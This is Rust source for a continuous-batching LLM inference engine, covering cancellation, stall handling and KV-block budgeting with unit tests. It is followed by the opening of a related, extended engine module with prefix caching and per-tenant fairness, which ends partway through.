pub struct GenRequest {
    pub prompt_tokens: Vec<i32>,
    pub max_tokens: usize,
    pub sampling: SamplingParams,
    /// Token events stream here; the channel closing is the client
    /// disconnect signal (generation is aborted).
    pub events: SyncSender<GenEvent>,
    /// Cooperative cancellation from the serving layer (client hung up).
    pub cancel: CancelToken,
}

/// Events emitted per request.
#[derive(Debug, Clone, PartialEq)]
pub enum GenEvent {
    /// One generated token (id + decoded bytes).
    Token { id: i32, bytes: Vec<u8> },
    /// Generation finished.
    Done { reason: FinishReason, tokens: usize },
    /// The engine rejected or aborted the request.
    Error(String),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FinishReason {
    Stop,       // EOS
    Length,     // max_tokens or context limit
    Disconnect, // client went away
}

/// Engine metrics (exported via /metrics).
#[derive(Default)]
pub struct EngineStats {
    pub requests: AtomicU64,
    pub completed: AtomicU64,
    pub rejected: AtomicU64,
    pub tokens_generated: AtomicU64,
    pub decode_steps: AtomicU64,
    /// Sum of batch sizes over steps (for avg batch occupancy).
    pub batched_seqs: AtomicU64,
    pub queue_depth: AtomicU64,
    pub running: AtomicU64,
    /// Sequences evicted because their client went away.
    pub cancelled: AtomicU64,
    /// Decode steps *not* spent on abandoned sequences
    /// (`max_tokens - generated` summed over cancelled sequences).
    pub tokens_saved: AtomicU64,
    /// Streams severed by the stall policy (consumer too slow).
    pub stall_disconnects: AtomicU64,
    /// Tokens discarded by [`StallPolicy::Drop`].
    pub tokens_dropped: AtomicU64,
}

/// Handle for submitting work; cheap to clone.
pub struct Engine {
    tx: Mutex<Sender<GenRequest>>,
    pub stats: Arc<EngineStats>,
    pub first_token_us: Arc<Histogram>,
    pub step_us: Arc<Histogram>,
    shutdown: Arc<AtomicBool>,
    thread: Mutex<Option<std::thread::JoinHandle<()>>>,
}

struct RunningSeq {
    state: SeqState,
    sampler: Sampler,
    events: SyncSender<GenEvent>,
    cancel: CancelToken,
    position: i32,
    generated: usize,
    max_tokens: usize,
    seq_id: u64,
    started_at: Instant,
    first_token_sent: bool,
    /// Last sampled token — the next decode step's input.
    last_token: i32,
    /// Tokens awaiting a slow consumer (beyond the channel's buffer).
    backlog: VecDeque<GenEvent>,
    /// When the consumer first fell behind (cleared once drained).
    stalled_since: Option<Instant>,
    /// Consumer gone but cancellation disabled (ablation): keep decoding,
    /// discard output — the pre-cancellation system's behaviour.
    events_dead: bool,
}

/// Engine configuration knobs (ablation surface).
#[derive(Clone)]
pub struct EngineConfig {
    /// Cap on concurrent running sequences (≤ backend bucket).
    pub max_batch: usize,
    /// KV blocks available (admission budget).
    pub kv_blocks: usize,
    pub kv_block_size: usize,
    /// Max prompt length accepted (longer prompts are truncated from the
    /// left, keeping the suffix).
    pub max_prompt: usize,
    /// Prefills performed per loop iteration (1 = decode-priority).
    pub prefills_per_iter: usize,
    /// Honor disconnects/cancel tokens by evicting the sequence (the
    /// ablation's "cancellation off" keeps decoding to `max_tokens`).
    pub cancellation: bool,
    /// What to do with a stream whose consumer stalled past the budget.
    pub stall_policy: StallPolicy,
    /// Backlog tokens tolerated beyond the channel buffer.
    pub stall_buffer: usize,
    /// Time a consumer may stall before the policy applies.
    pub stall_timeout: Duration,
}

impl EngineConfig {
    pub fn for_backend(b: &dyn Backend) -> EngineConfig {
        let max_seq = b.max_seq();
        EngineConfig {
            max_batch: b.max_batch(),
            // enough blocks for max_batch full-length sequences
            kv_blocks: b.max_batch() * max_seq.div_ceil(16),
            kv_block_size: 16,
            max_prompt: max_seq.saturating_sub(16).max(1),
            prefills_per_iter: 1,
            cancellation: true,
            stall_policy: StallPolicy::Disconnect,
            stall_buffer: 256,
            stall_timeout: Duration::from_secs(10),
        }
    }
}

impl Engine {
    /// Start the engine thread over `backend`.
    pub fn start(backend: Arc<dyn Backend>, config: EngineConfig) -> Arc<Engine> {
        let (tx, rx) = std::sync::mpsc::channel::<GenRequest>();
        let stats = Arc::new(EngineStats::default());
        let first_token_us = Arc::new(Histogram::new());
        let step_us = Arc::new(Histogram::new());
        let shutdown = Arc::new(AtomicBool::new(false));

        let loop_stats = stats.clone();
        let loop_first = first_token_us.clone();
        let loop_step = step_us.clone();
        let loop_shutdown = shutdown.clone();
        let thread = std::thread::Builder::new()
            .name("llm-engine".into())
            .spawn(move || {
                engine_loop(
                    backend,
                    config,
                    rx,
                    loop_stats,
                    loop_first,
                    loop_step,
                    loop_shutdown,
                )
            })
            .expect("spawn engine");

        Arc::new(Engine {
            tx: Mutex::new(tx),
            stats,
            first_token_us,
            step_us,
            shutdown,
            thread: Mutex::new(Some(thread)),
        })
    }

    /// Submit a request. Returns false if the engine is shut down.
    pub fn submit(&self, req: GenRequest) -> bool {
        self.stats.requests.fetch_add(1, Ordering::Relaxed);
        self.tx.lock().unwrap().send(req).is_ok()
    }

    pub fn stop(&self) {
        self.shutdown.store(true, Ordering::SeqCst);
        // The loop polls the flag with a timeout, so the flag is enough.
        if let Some(h) = self.thread.lock().unwrap().take() {
            let _ = h.join();
        }
    }
}

impl Drop for Engine {
    fn drop(&mut self) {
        self.shutdown.store(true, Ordering::SeqCst);
        if let Some(h) = self.thread.lock().unwrap().take() {
            let _ = h.join();
        }
    }
}

fn engine_loop(
    backend: Arc<dyn Backend>,
    config: EngineConfig,
    rx: Receiver<GenRequest>,
    stats: Arc<EngineStats>,
    first_token_us: Arc<Histogram>,
    step_us: Arc<Histogram>,
    shutdown: Arc<AtomicBool>,
) {
    let mut waiting: VecDeque<GenRequest> = VecDeque::new();
    let mut running: Vec<RunningSeq> = Vec::new();
    let mut blocks = BlockManager::new(config.kv_blocks, config.kv_block_size);
    let mut next_seq_id = 1u64;

    loop {
        if shutdown.load(Ordering::SeqCst) {
            for seq in running.drain(..) {
                let _ = seq.events.try_send(GenEvent::Error("engine shutting down".into()));
            }
            return;
        }

        // ---- intake -----------------------------------------------------
        if running.is_empty() && waiting.is_empty() {
            // Idle: block until work arrives (100ms poll for shutdown).
            match rx.recv_timeout(Duration::from_millis(100)) {
                Ok(req) => waiting.push_back(req),
                Err(std::sync::mpsc::RecvTimeoutError::Timeout) => continue,
                Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => return,
            }
        }
        while let Ok(req) = rx.try_recv() {
            waiting.push_back(req);
        }
        stats
            .queue_depth
            .store(waiting.len() as u64, Ordering::Relaxed);

        // ---- cancellation sweep ------------------------------------------
        // Evict sequences whose client went away: the slot and KV blocks
        // come back before this iteration's admission + decode.
        if config.cancellation && running.iter().any(|s| s.cancel.is_cancelled()) {
            let mut keep = Vec::with_capacity(running.len());
            for seq in running.drain(..) {
                if seq.cancel.is_cancelled() {
                    retire_abandoned(seq, &mut blocks, &stats);
                } else {
                    keep.push(seq);
                }
            }
            running = keep;
        }

        // ---- admission + prefill -----------------------------------------
        let mut prefills = 0;
        while prefills < config.prefills_per_iter
            && running.len() < config.max_batch
            && !waiting.is_empty()
        {
            let mut req = waiting.pop_front().unwrap();
            // Cancelled while queued: never prefill it.
            if config.cancellation && req.cancel.is_cancelled() {
                stats.cancelled.fetch_add(1, Ordering::Relaxed);
                stats
                    .tokens_saved
                    .fetch_add(req.max_tokens.max(1) as u64, Ordering::Relaxed);
                let _ = req.events.try_send(GenEvent::Done {
                    reason: FinishReason::Disconnect,
                    tokens: 0,
                });
                continue;
            }
            // Truncate over-long prompts from the left (keep the suffix —
            // the recent conversation matters most).
            if req.prompt_tokens.len() > config.max_prompt {
                let start = req.prompt_tokens.len() - config.max_prompt;
                req.prompt_tokens.drain(..start);
            }
            if req.prompt_tokens.is_empty() {
                let _ = req.events.try_send(GenEvent::Error("empty prompt".into()));
                stats.rejected.fetch_add(1, Ordering::Relaxed);
                continue;
            }
            if !blocks.can_admit(req.prompt_tokens.len()) {
                // No KV budget: put it back and stop admitting.
                waiting.push_front(req);
                break;
            }
            let started_at = Instant::now();
            match backend.prefill(&req.prompt_tokens) {
                Ok((logits, state)) => {
                    prefills += 1;
                    let seq_id = next_seq_id;
                    next_seq_id += 1;
                    blocks.admit(seq_id, req.prompt_tokens.len()).unwrap();
                    let mut seq = RunningSeq {
                        state,
                        sampler: Sampler::new(req.sampling.clone()),
                        events: req.events,
                        cancel: req.cancel,
                        position: req.prompt_tokens.len() as i32,
                        generated: 0,
                        max_tokens: req.max_tokens.max(1),
                        seq_id,
                        started_at,
                        first_token_sent: false,
                        last_token: 0,
                        backlog: VecDeque::new(),
                        stalled_since: None,
                        events_dead: false,
                    };
                    // Sample the first token straight from prefill logits.
                    let tok = seq.sampler.sample(&logits);
                    match emit_token(&mut seq, tok, &stats, &first_token_us) {
                        Delivery::Disconnected if config.cancellation => {
                            retire_abandoned(seq, &mut blocks, &stats);
                            continue;
                        }
                        Delivery::Disconnected => seq.events_dead = true,
                        Delivery::Stalled | Delivery::Delivered => {}
                    }
                    if finished_after_token(&seq, tok, backend.max_seq()) {
                        retire(seq, tok, backend.max_seq(), &mut blocks, &stats);
                    } else {
                        running.push(seq);
                    }
                }
                Err(e) => {
                    let _ = req.events.try_send(GenEvent::Error(format!("prefill: {e}")));
                    stats.rejected.fetch_add(1, Ordering::Relaxed);
                }
            }
        }
        stats.running.store(running.len() as u64, Ordering::Relaxed);

        if running.is_empty() {
            continue;
        }

        // ---- one batched decode step --------------------------------------
        let tokens: Vec<i32> = running.iter().map(|s| s.last_token).collect();
        let positions: Vec<i32> = running.iter().map(|s| s.position).collect();
        let step_start = Instant::now();
        let mut states: Vec<&mut SeqState> =
            running.iter_mut().map(|s| &mut s.state).collect();
        let result = backend.decode(&tokens, &positions, &mut states);
        drop(states);
        step_us.record(step_start.elapsed().as_micros() as u64);
        stats.decode_steps.fetch_add(1, Ordering::Relaxed);
        stats
            .batched_seqs
            .fetch_add(running.len() as u64, Ordering::Relaxed);

        match result {
            Ok(logits_rows) => {
                let max_seq = backend.max_seq();
                let mut keep: Vec<RunningSeq> = Vec::with_capacity(running.len());
                for (mut seq, logits) in running.drain(..).zip(logits_rows) {
                    seq.position += 1;
                    if blocks.append_token(seq.seq_id).is_err() {
                        let _ = seq
                            .events
                            .try_send(GenEvent::Error("KV budget exhausted".into()));
                        let _ = blocks.release(seq.seq_id);
                        stats.rejected.fetch_add(1, Ordering::Relaxed);
                        continue;
                    }
                    let tok = seq.sampler.sample(&logits);
                    match emit_token(&mut seq, tok, &stats, &first_token_us) {
                        Delivery::Disconnected if config.cancellation => {
                            retire_abandoned(seq, &mut blocks, &stats);
                            continue;
                        }
                        Delivery::Disconnected => seq.events_dead = true,
                        Delivery::Stalled => {
                            if stalled_out(&seq, &config) {
                                match config.stall_policy {
                                    StallPolicy::Disconnect => {
                                        stats.stall_disconnects.fetch_add(1, Ordering::Relaxed);
                                        retire_abandoned(seq, &mut blocks, &stats);
                                        continue;
                                    }
                                    StallPolicy::Drop => {
                                        stats.tokens_dropped.fetch_add(
                                            seq.backlog.len() as u64,
                                            Ordering::Relaxed,
                                        );
                                        seq.backlog.clear();
                                        seq.stalled_since = None;
                                    }
                                }
                            }
                        }
                        Delivery::Delivered => {}
                    }
                    if finished_after_token(&seq, tok, max_seq) {
                        retire(seq, tok, max_seq, &mut blocks, &stats);
                    } else {
                        keep.push(seq);
                    }
                }
                running = keep;
            }
            Err(e) => {
                log::error!(target: "llm", "decode step failed: {e}");
                for seq in running.drain(..) {
                    let _ = seq.events.try_send(GenEvent::Error(format!("decode: {e}")));
                    let _ = blocks.release(seq.seq_id);
                }
            }
        }
    }
}

/// Outcome of pushing an event toward the consumer.
enum Delivery {
    Delivered,
    /// Channel full: the event joined the sequence's backlog.
    Stalled,
    /// Consumer dropped the receiver.
    Disconnected,
}

/// Non-blocking delivery: drain the backlog first (order), then the new
/// event; overflow queues. The engine loop never blocks on a client.
fn deliver(seq: &mut RunningSeq, event: GenEvent) -> Delivery {
    if seq.events_dead {
        return Delivery::Delivered; // discard: consumer known-gone
    }
    while let Some(front) = seq.backlog.pop_front() {
        match seq.events.try_send(front) {
            Ok(()) => {}
            Err(TrySendError::Full(front)) => {
                seq.backlog.push_front(front);
                break;
            }
            Err(TrySendError::Disconnected(_)) => return Delivery::Disconnected,
        }
    }
    if seq.backlog.is_empty() {
        match seq.events.try_send(event) {
            Ok(()) => {
                seq.stalled_since = None;
                return Delivery::Delivered;
            }
            Err(TrySendError::Full(event)) => seq.backlog.push_back(event),
            Err(TrySendError::Disconnected(_)) => return Delivery::Disconnected,
        }
    } else {
        seq.backlog.push_back(event);
    }
    if seq.stalled_since.is_none() {
        seq.stalled_since = Some(Instant::now());
    }
    Delivery::Stalled
}

/// Has this sequence's consumer stalled past the configured budget?
fn stalled_out(seq: &RunningSeq, config: &EngineConfig) -> bool {
    seq.backlog.len() > config.stall_buffer
        || seq
            .stalled_since
            .is_some_and(|since| since.elapsed() >= config.stall_timeout)
}

/// Emit a token event (never blocks; see [`deliver`]).
fn emit_token(
    seq: &mut RunningSeq,
    tok: i32,
    stats: &EngineStats,
    first_token_us: &Histogram,
) -> Delivery {
    seq.last_token = tok;
    if tok == tokenizer::EOS {
        return Delivery::Delivered; // handled by finished_after_token
    }
    seq.generated += 1;
    stats.tokens_generated.fetch_add(1, Ordering::Relaxed);
    if !seq.first_token_sent {
        seq.first_token_sent = true;
        first_token_us.record(seq.started_at.elapsed().as_micros() as u64);
    }
    deliver(
        seq,
        GenEvent::Token {
            id: tok,
            bytes: tokenizer::decode_token(tok),
        },
    )
}

fn finished_after_token(seq: &RunningSeq, tok: i32, max_seq: usize) -> bool {
    tok == tokenizer::EOS
        || seq.generated >= seq.max_tokens
        || (seq.position as usize) >= max_seq - 1
}

fn retire(
    mut seq: RunningSeq,
    last_tok: i32,
    max_seq: usize,
    blocks: &mut BlockManager,
    stats: &EngineStats,
) {
    let reason = if last_tok == tokenizer::EOS {
        FinishReason::Stop
    } else if seq.generated >= seq.max_tokens || (seq.position as usize) >= max_seq - 1 {
        FinishReason::Length
    } else {
        FinishReason::Disconnect
    };
    let tokens = seq.generated;
    if let Delivery::Stalled = deliver(&mut seq, GenEvent::Done { reason, tokens }) {
        // A transiently slow (but healthy) consumer still gets its tail
        // tokens and the terminal event: hand the backlog — which ends
        // with the Done just queued — to a drainer so the engine loop
        // itself never blocks. The drainer exits as soon as the consumer
        // drains, hangs up, or times out (its receiver drops).
        let backlog = std::mem::take(&mut seq.backlog);
        let events = seq.events.clone();
        std::thread::Builder::new()
            .name("llm-retire-drain".into())
            .spawn(move || {
                for event in backlog {
                    if events.send(event).is_err() {
                        return;
                    }
                }
            })
            .ok();
    }
    let _ = blocks.release(seq.seq_id);
    stats.completed.fetch_add(1, Ordering::Relaxed);
}

/// Eviction for an abandoned stream: free the KV blocks, count the decode
/// steps we did *not* spend finishing it.
fn retire_abandoned(mut seq: RunningSeq, blocks: &mut BlockManager, stats: &EngineStats) {
    let saved = seq.max_tokens.saturating_sub(seq.generated) as u64;
    stats.tokens_saved.fetch_add(saved, Ordering::Relaxed);
    stats.cancelled.fetch_add(1, Ordering::Relaxed);
    let tokens = seq.generated;
    // Best-effort terminal event for a half-open consumer.
    let _ = deliver(
        &mut seq,
        GenEvent::Done {
            reason: FinishReason::Disconnect,
            tokens,
        },
    );
    let _ = blocks.release(seq.seq_id);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::llm::backend::{PerfProfile, SimBackend};
    use std::sync::mpsc::sync_channel;

    fn fast_backend() -> Arc<SimBackend> {
        let mut b = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        b.time_scale = 0.0; // no sleeping: unit tests
        Arc::new(b)
    }

    /// A backend that never EOSes: generation only ends via max_tokens or
    /// cancellation — the shape an abandoned long stream has in production.
    struct EndlessBackend {
        step: Duration,
    }

    impl EndlessBackend {
        fn one_hot() -> Vec<f32> {
            let mut v = vec![0.0; tokenizer::VOCAB];
            v[98] = 100.0; // byte 'a'
            v
        }
    }

    impl Backend for EndlessBackend {
        fn max_batch(&self) -> usize {
            8
        }
        fn max_seq(&self) -> usize {
            4096
        }
        fn vocab(&self) -> usize {
            tokenizer::VOCAB
        }
        fn prefill(&self, _tokens: &[i32]) -> anyhow::Result<(Vec<f32>, SeqState)> {
            Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
        }
        fn decode(
            &self,
            tokens: &[i32],
            _positions: &[i32],
            _seqs: &mut [&mut SeqState],
        ) -> anyhow::Result<Vec<Vec<f32>>> {
            if !self.step.is_zero() {
                std::thread::sleep(self.step);
            }
            Ok(tokens.iter().map(|_| Self::one_hot()).collect())
        }
    }

    fn request(
        max_tokens: usize,
        cap: usize,
    ) -> (GenRequest, Receiver<GenEvent>, CancelToken) {
        let (tx, rx) = sync_channel(cap);
        let cancel = CancelToken::new();
        (
            GenRequest {
                prompt_tokens: tokenizer::encode("count"),
                max_tokens,
                sampling: SamplingParams::default(),
                events: tx,
                cancel: cancel.clone(),
            },
            rx,
            cancel,
        )
    }

    fn wait_until(deadline_ms: u64, mut cond: impl FnMut() -> bool) -> bool {
        let deadline = Instant::now() + Duration::from_millis(deadline_ms);
        while Instant::now() < deadline {
            if cond() {
                return true;
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        cond()
    }

    #[test]
    fn cancel_token_evicts_within_a_step_and_frees_kv() {
        let backend = Arc::new(EndlessBackend {
            step: Duration::from_millis(5),
        });
        // Tiny KV budget: barely one long sequence fits, so reuse after
        // the cancel proves the blocks came back.
        let config = EngineConfig {
            kv_blocks: 8,
            kv_block_size: 16,
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);

        let (req, rx, cancel) = request(1000, 1024);
        assert!(engine.submit(req));
        // Wait for the stream to start, then hang up.
        let first = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert!(matches!(first, GenEvent::Token { .. }));
        cancel.cancel();
        assert!(
            wait_until(5000, || engine.stats.cancelled.load(Ordering::Relaxed) == 1),
            "cancelled sequence not evicted"
        );
        assert_eq!(engine.stats.running.load(Ordering::Relaxed), 0);
        assert!(
            engine.stats.tokens_saved.load(Ordering::Relaxed) > 900,
            "most of max_tokens should be saved: {}",
            engine.stats.tokens_saved.load(Ordering::Relaxed)
        );

        // KV blocks are reusable: a fresh request (which needs the whole
        // tiny budget) completes.
        let (req, rx, _cancel) = request(8, 1024);
        assert!(engine.submit(req));
        let done = loop {
            match rx.recv_timeout(Duration::from_secs(5)).unwrap() {
                GenEvent::Done { reason, .. } => break reason,
                GenEvent::Token { .. } => {}
                GenEvent::Error(e) => panic!("unexpected error: {e}"),
            }
        };
        assert!(matches!(done, FinishReason::Stop | FinishReason::Length));
        engine.stop();
    }

    #[test]
    fn queued_cancelled_request_is_never_prefilled() {
        let backend = fast_backend();
        let config = EngineConfig::for_backend(backend.as_ref());
        let engine = Engine::start(backend, config);
        let (req, rx, cancel) = request(50, 8);
        cancel.cancel(); // cancelled before submission even lands
        assert!(engine.submit(req));
        let event = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert_eq!(
            event,
            GenEvent::Done {
                reason: FinishReason::Disconnect,
                tokens: 0
            }
        );
        assert_eq!(engine.stats.cancelled.load(Ordering::Relaxed), 1);
        assert_eq!(engine.stats.tokens_saved.load(Ordering::Relaxed), 50);
        engine.stop();
    }

    #[test]
    fn receiver_hangup_evicts_sequence() {
        let backend = Arc::new(EndlessBackend {
            step: Duration::from_millis(2),
        });
        let config = EngineConfig::for_backend(backend.as_ref());
        let engine = Engine::start(backend, config);
        let (req, rx, _cancel) = request(1000, 4);
        assert!(engine.submit(req));
        let _ = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        drop(rx); // client disconnect as seen by the serving layer
        assert!(
            wait_until(5000, || engine.stats.cancelled.load(Ordering::Relaxed) == 1),
            "hangup not detected"
        );
        assert_eq!(engine.stats.running.load(Ordering::Relaxed), 0);
        engine.stop();
    }

    #[test]
    fn stall_policy_disconnect_severs_only_the_slow_stream() {
        let backend = fast_backend();
        let config = EngineConfig {
            stall_policy: StallPolicy::Disconnect,
            stall_buffer: 4,
            stall_timeout: Duration::from_secs(60), // backlog-triggered
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        // Slow consumer: tiny channel, never read.
        let (slow_req, slow_rx, _c1) = request(1000, 1);
        // Healthy consumer: ample channel.
        let (ok_req, ok_rx, _c2) = request(12, 1024);
        assert!(engine.submit(slow_req));
        assert!(engine.submit(ok_req));

        // The healthy stream completes in full.
        let mut tokens = 0;
        let reason = loop {
            match ok_rx.recv_timeout(Duration::from_secs(5)).unwrap() {
                GenEvent::Token { .. } => tokens += 1,
                GenEvent::Done { reason, .. } => break reason,
                GenEvent::Error(e) => panic!("unexpected error: {e}"),
            }
        };
        assert!(matches!(reason, FinishReason::Stop | FinishReason::Length));
        assert!(tokens > 0);

        // The stalled stream gets severed by policy, freeing its slot.
        assert!(
            wait_until(5000, || engine
                .stats
                .stall_disconnects
                .load(Ordering::Relaxed)
                == 1),
            "stall policy never applied"
        );
        assert_eq!(engine.stats.running.load(Ordering::Relaxed), 0);
        drop(slow_rx);
        engine.stop();
    }

    #[test]
    fn stall_policy_drop_discards_backlog_but_finishes() {
        let backend = fast_backend();
        let config = EngineConfig {
            stall_policy: StallPolicy::Drop,
            stall_buffer: 2,
            stall_timeout: Duration::from_secs(60),
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        let (req, rx, _cancel) = request(1000, 1);
        assert!(engine.submit(req));
        // Don't read: the backlog overflows and gets dropped, repeatedly,
        // until the canned script ends — the sequence still completes.
        assert!(
            wait_until(5000, || engine.stats.tokens_dropped.load(Ordering::Relaxed) > 0),
            "no tokens dropped"
        );
        assert!(
            wait_until(5000, || engine.stats.completed.load(Ordering::Relaxed) == 1),
            "dropped stream did not complete"
        );
        assert_eq!(engine.stats.stall_disconnects.load(Ordering::Relaxed), 0);
        drop(rx);
        engine.stop();
    }

    #[test]
    fn cancellation_off_decodes_to_completion_after_hangup() {
        let backend = fast_backend();
        let config = EngineConfig {
            cancellation: false,
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        let (req, rx, cancel) = request(1000, 4);
        assert!(engine.submit(req));
        let _ = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        drop(rx);
        cancel.cancel();
        // The ablation keeps decoding: the sequence retires normally (the
        // canned script EOSes), nothing is counted as cancelled.
        assert!(
            wait_until(5000, || engine.stats.completed.load(Ordering::Relaxed) == 1),
            "sequence should run to completion with cancellation off"
        );
        assert_eq!(engine.stats.cancelled.load(Ordering::Relaxed), 0);
        assert_eq!(engine.stats.tokens_saved.load(Ordering::Relaxed), 0);
        engine.stop();
    }
}
