//! The continuous-batching inference engine (vLLM's core loop, Kwo+23),
//! with a prefix-aware KV cache (RadixAttention-style reuse) wired
//! through admission, prefill and preemption.
//!
//! One engine per served model instance. A dedicated engine thread runs
//! the schedule-prefill-decode loop:
//!
//! ```text
//!   loop {
//!     evict cancelled sequences (refcount their KV blocks down);
//!     admit one waiting request: shared prefix blocks attach for free,
//!       only the uncached suffix is prefilled — in chunks, so a long
//!       prompt never stalls running decodes for a full pass;
//!     preempt the lowest-priority sequence if the next decode step
//!       cannot get its KV growth (it re-prefills later from its —
//!       likely still cached — prefix);
//!     decode one step over all running sequences;     // batched
//!     sample, stream tokens, retire finished;
//!   }
//! ```
//!
//! Sequences join and leave the batch between steps — continuous
//! batching, not static gang batching. KV exhaustion mid-decode is not a
//! stream-killing error any more: the youngest sequence is parked back
//! on the wait queue (preempt-and-recompute) and the stream resumes
//! where it left off.
//!
//! Streaming discipline: token delivery never blocks the loop. Each
//! sequence's event channel is bounded; when a consumer stalls, tokens
//! queue in a per-sequence backlog and the [`StallPolicy`] decides whether
//! the stream is severed or the backlog dropped. A client disconnect —
//! observed either as a channel hangup or via the request's
//! [`CancelToken`] — evicts the sequence at the next decode step and
//! returns its KV blocks to the budget.
//!
//! The loop itself is channel-woken: when idle it blocks on the request
//! channel (a `Wake` message makes shutdown immediate); the recv timeout
//! is only a fallback, not a poll.

use std::collections::{HashMap, VecDeque};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, RecvTimeoutError, Sender, SyncSender, TrySendError};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use super::backend::{Backend, SeqState};
use super::kv_cache::BlockManager;
use super::sampler::{Sampler, SamplingParams};
use super::tokenizer;
use crate::util::fairness::{
    AdmissionController, FairScheduler, FairnessConfig, Priority, Shed, ShedReason,
};
use crate::util::hist::Histogram;
use crate::util::streaming::{CancelToken, StallPolicy};

/// How long the idle engine sleeps before re-checking shutdown if a Wake
/// message somehow goes missing. Not a cadence — the loop is woken by the
/// channel itself.
const IDLE_WAKE_FALLBACK: Duration = Duration::from_secs(5);

/// How often the busy loop sweeps idle-tenant bookkeeping (the idle path
/// sweeps on every wait; a saturated instance must sweep too, or a
/// churning consumer population grows the fair-scheduler map forever).
const TENANT_SWEEP_INTERVAL: Duration = Duration::from_secs(10);

/// Cap on distinct tenants tracked in [`EngineStats::tenant_tokens`];
/// beyond it the smallest entry folds into the `"<other>"` aggregate so
/// both memory and /metrics label cardinality stay bounded.
const TENANT_STATS_CAP: usize = 256;

/// Aggregate bucket for evicted tenant token counts.
pub const TENANT_OTHER: &str = "<other>";

/// A generation request submitted to the engine.
pub struct GenRequest {
    pub prompt_tokens: Vec<i32>,
    pub max_tokens: usize,
    pub sampling: SamplingParams,
    /// Token events stream here; the channel closing is the client
    /// disconnect signal (generation is aborted).
    pub events: SyncSender<GenEvent>,
    /// Cooperative cancellation from the serving layer (client hung up).
    pub cancel: CancelToken,
    /// The consumer identity this request is billed to (fair-share
    /// scheduling key). Empty = the shared "anonymous" tenant.
    pub tenant: String,
    /// Priority class, threaded from the gateway.
    pub priority: Priority,
    /// End-to-end trace ID (when the request arrived traced); the engine
    /// records queue-wait / prefill / first-token spans against it.
    pub trace: Option<crate::util::trace::TraceId>,
}

/// Events emitted per request.
#[derive(Debug, Clone, PartialEq)]
pub enum GenEvent {
    /// One generated token (id + decoded bytes).
    Token { id: i32, bytes: Vec<u8> },
    /// Generation finished.
    Done { reason: FinishReason, tokens: usize },
    /// The engine rejected or aborted the request.
    Error(String),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FinishReason {
    Stop,       // EOS
    Length,     // max_tokens or context limit
    Disconnect, // client went away
}

/// Engine metrics (exported via /metrics).
#[derive(Default)]
pub struct EngineStats {
    pub requests: AtomicU64,
    pub completed: AtomicU64,
    pub rejected: AtomicU64,
    pub tokens_generated: AtomicU64,
    pub decode_steps: AtomicU64,
    /// Sum of batch sizes over steps (for avg batch occupancy).
    pub batched_seqs: AtomicU64,
    pub queue_depth: AtomicU64,
    pub running: AtomicU64,
    /// Sequences evicted because their client went away.
    pub cancelled: AtomicU64,
    /// Decode steps *not* spent on abandoned sequences
    /// (`max_tokens - generated` summed over cancelled sequences).
    pub tokens_saved: AtomicU64,
    /// Streams severed by the stall policy (consumer too slow).
    pub stall_disconnects: AtomicU64,
    /// Tokens discarded by [`StallPolicy::Drop`].
    pub tokens_dropped: AtomicU64,
    /// Prompt tokens actually run through prefill (uncached suffixes and
    /// recomputed prompts; the cost the prefix cache exists to shrink).
    pub prefill_tokens: AtomicU64,
    /// Admissions that reused at least one cached prefix block.
    pub prefix_hits: AtomicU64,
    /// Prompt tokens skipped at prefill because their KV was resident.
    pub prefill_tokens_saved: AtomicU64,
    /// Physical blocks attached by refcount instead of allocation.
    pub blocks_shared: AtomicU64,
    /// Sequences parked back to the wait queue by KV pressure.
    pub preemptions: AtomicU64,
    /// Prompt tokens re-prefilled when preempted sequences resumed
    /// (their cached prefix, if it survived, is *not* counted).
    pub tokens_recomputed: AtomicU64,
    /// Requests shed at submit because the bounded queue was full (503).
    pub shed_queue_full: AtomicU64,
    /// Requests shed at submit because the estimated wait exceeded the
    /// class budget (429).
    pub shed_wait_budget: AtomicU64,
    /// Max/min tenant token-share ratio ×1000 (gauge; 0 = fewer than two
    /// active tenants).
    pub fairness_ratio_milli: AtomicU64,
    /// KV blocks currently held by live sequences (gauge).
    pub kv_blocks_used: AtomicU64,
    /// Smoothed decode throughput, milli-tokens/sec (gauge; also the
    /// admission controller's wait-estimate input).
    pub decode_tps_milli: AtomicU64,
    /// Draft tokens proposed to speculative verification.
    pub spec_proposed_tokens: AtomicU64,
    /// Proposed tokens that verification accepted — each one is a decode
    /// step the target model did not have to run.
    pub spec_accepted_tokens: AtomicU64,
    /// Smoothed tokens-per-sequence-per-step ×1000 (gauge; 1000 = plain
    /// one-token-per-step decoding).
    pub spec_tokens_per_step_milli: AtomicU64,
    /// Remaining prompt tokens queued on each prefill lane (gauge; empty
    /// when `prefill_lanes` is 0).
    pub prefill_lane_depth: Mutex<Vec<u64>>,
    /// Actual prefill+decode tokens charged per tenant.
    pub tenant_tokens: Mutex<HashMap<String, u64>>,
}

impl EngineStats {
    fn charge_tenant(&self, tenant: &str, tokens: u64) {
        if tokens == 0 {
            return;
        }
        let mut map = self.tenant_tokens.lock().unwrap();
        if !map.contains_key(tenant) && map.len() >= TENANT_STATS_CAP {
            // Fold the smallest existing entry into "<other>" so the map
            // (and the /metrics tenant label set) never outgrows the cap
            // under a churning consumer population.
            if let Some(victim) = map
                .iter()
                .filter(|(k, _)| k.as_str() != TENANT_OTHER)
                .min_by_key(|(_, v)| **v)
                .map(|(k, _)| k.clone())
            {
                let folded = map.remove(&victim).unwrap_or(0);
                *map.entry(TENANT_OTHER.to_string()).or_insert(0) += folded;
            }
        }
        *map.entry(tenant.to_string()).or_insert(0) += tokens;
    }

    /// Per-tenant token totals, sorted by tenant (metrics exposition).
